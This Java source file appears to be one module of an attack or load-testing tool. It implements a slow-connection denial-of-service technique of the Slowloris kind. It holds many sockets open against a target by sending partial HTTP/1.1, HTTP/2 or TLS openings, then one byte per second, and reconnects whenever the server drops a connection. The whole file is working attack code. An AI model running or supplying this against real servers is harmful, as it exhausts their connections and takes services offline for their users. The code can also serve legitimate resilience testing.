package io.balsa.attack;

import static java.nio.charset.StandardCharsets.ISO_8859_1;

import io.balsa.bytes.HostPort;
import java.io.IOException;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;

/**
 * Connections that send the beginning of a request, and then a byte a second. A connection that the
 * server closes is opened anew.
 */
final class SlowSockets {
  private static final String PREFACE = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
  private static final String SETTINGS = "\0\0\0\4\0\0\0\0\0";
  private static final int CONNECT_MILLIS = 5_000;
  private static final Duration STEP = Duration.ofSeconds(1);

  /** What comes first: of the HTTP/2 preface, of HTTP/1.1 headers, of HTTP/2 headers, of TLS. */
  private static final List<String> BEGINNINGS =
      List.of(
          PREFACE.substring(0, 4),
          "GET /health HTTP/1.1\r\nHost: x\r\nX-Slow: ",
          PREFACE + SETTINGS + "\0\0\100\1\0\0\0\0\1\0",
          "\26\3\1\2\0\1\0\1\374\3\3");

  private SlowSockets() {}

  /** Lets every client hold some of these connections until the end. */
  static void halfHeaders(AttackRun run, int each) {
    run.eachAlone(
        () -> {
          List<Slow> open = new ArrayList<>();
          for (int i = 0; i < each && !run.isOver(); i++) {
            open.add(new Slow(run, BEGINNINGS.get(i % BEGINNINGS.size())));
          }
          while (!run.isOver()) {
            open.forEach(Slow::step);
            AttackRun.pause(STEP);
          }
          open.forEach(Slow::end);
        });
  }

  /** One connection. */
  private static final class Slow {
    private final AttackRun run;
    private final byte[] beginning;
    private Socket socket;

    Slow(AttackRun run, String beginning) {
      this.run = run;
      this.socket = run.socket();
      this.beginning = beginning.getBytes(ISO_8859_1);
      open();
    }

    private void open() {
      HostPort address = run.address();
      try {
        socket.connect(new InetSocketAddress(address.host(), address.port()), CONNECT_MILLIS);
        socket.getOutputStream().write(beginning);
      } catch (IOException refused) {
        run.tally().add("connection refused");
      }
    }

    void step() {
      try {
        if (socket.getInputStream().available() == 0) {
          socket.getOutputStream().write('x');
          return;
        }
        socket.getInputStream().skipNBytes(socket.getInputStream().available());
      } catch (IOException _) {
        run.tally().add("connection closed by the server");
        end();
        socket = run.socket();
        open();
      }
    }

    void end() {
      run.end(socket);
    }
  }
}
